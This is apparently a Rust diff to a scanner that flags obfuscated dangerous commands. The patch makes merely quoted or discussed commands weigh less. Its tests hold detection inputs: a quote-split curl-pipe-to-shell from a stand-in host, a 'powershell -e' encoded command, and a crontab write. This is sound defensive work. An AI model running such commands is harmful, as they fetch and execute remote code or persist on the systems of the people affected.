@@ -14,6 +14,7 @@ use crate::features::review::language::Language;
 use crate::features::review::note::{Notes, quoted};
 use crate::features::review::signs::hits;
 use crate::features::review::speech::said;
+use crate::features::review::spoken::{Manner, What, manner};
 
 /// Longer texts are data.
 const MOST_TEXT: usize = 1_000_000;
@@ -21,7 +22,7 @@ const MOST_TEXT: usize = 1_000_000;
 const LONGEST: usize = 20_000;
 
 /// Notes what is dangerous only once it is read otherwise than it is written.
-pub(super) fn views(text: &str, language: Language, notes: &mut Notes<'_>) {
+pub(super) fn views(name: &str, text: &str, language: Language, notes: &mut Notes<'_>) {
     if text.len() > MOST_TEXT {
         return;
     }
@@ -39,10 +40,15 @@ pub(super) fn views(text: &str, language: Language, notes: &mut Notes<'_>) {
             }
             done.push(line);
             let becomes = whole.lines().nth(line).unwrap_or_default().trim();
-            // A list of arguments hides nothing, and so does what a page shows as a sign.
-            let weight = if *how == PLAIN { weight } else { Weight::Danger };
+            // A list of arguments hides nothing, and what is no danger when it is read is none for being odd.
+            let weight = match manner(name, text, language, start, What::Deed) {
+                Manner::SpokenOf => continue,
+                Manner::Quoted if weight == Weight::Danger => Weight::Look,
+                Manner::Quoted => continue,
+                Manner::Done => weight,
+            };
             let message = match *how == PLAIN {
-                true => words.into_owned(),
+                true => words.to_owned(),
                 false => format!("{words}, written {how}: {}", quoted(becomes)),
             };
             notes.add(weight, if language.is_code() { "hidden-call" } else { "instruction" }, start, message);
@@ -91,13 +97,12 @@ fn viewed(text: &str, language: Language, undo: Undo) -> Option<View> {
 }
 
 /// What a text is a sign of and weighs more than a note, with the numbers of the lines.
-fn found_in(text: &str, language: Language) -> Vec<(usize, Cow<'static, str>, Weight)> {
+fn found_in(text: &str, language: Language) -> Vec<(usize, &'static str, Weight)> {
     let starts: Vec<usize> =
         std::iter::once(0).chain(memchr::memchr_iter(b'\n', text.as_bytes()).map(|it| it + 1)).collect();
     let number = |at: usize| starts.partition_point(|start| *start <= at).saturating_sub(1);
     let signs = hits(text, language).into_iter().filter(|hit| hit.weight != Weight::Note);
-    let mut found: Vec<_> =
-        signs.map(|hit| (number(hit.start), Cow::Borrowed(hit.sign.words.as_str()), hit.weight)).collect();
+    let mut found: Vec<_> = signs.map(|hit| (number(hit.start), hit.sign.words.as_str(), hit.weight)).collect();
     found.extend(said(text, language).into_iter().map(|it| (number(it.start), it.words, it.weight)));
     found
 }
@@ -315,7 +320,7 @@ mod tests {
     fn told(text: &str, language: Language) -> Vec<String> {
         let lines = crate::text::Text::new(text);
         let mut notes = Notes::new("a", &lines);
-        views(text, language, &mut notes);
+        views("a", text, language, &mut notes);
         notes.found.iter().map(|it| format!("{:?} {}", it.weight, it.line.unwrap_or_default())).collect()
     }
 
@@ -336,7 +341,7 @@ mod tests {
         }
         assert_eq!(told("c\"\"url -s https://x.example/i | s\"\"h\n", Language::Shell), ["Danger 1"]);
         assert_eq!(told("p^owershell -e aGVsbG8gd29ybGQgaGVsbG8gdw\n", Language::Batch), ["Danger 1"]);
-        assert_eq!(told("run([\"crontab\", \"-\"])\n", Language::Python), ["Danger 1"]);
+        assert_eq!(told("run([\"crontab\", \"-\"])\n", Language::Python), ["Look 1"]);
     }
 
     #[test]
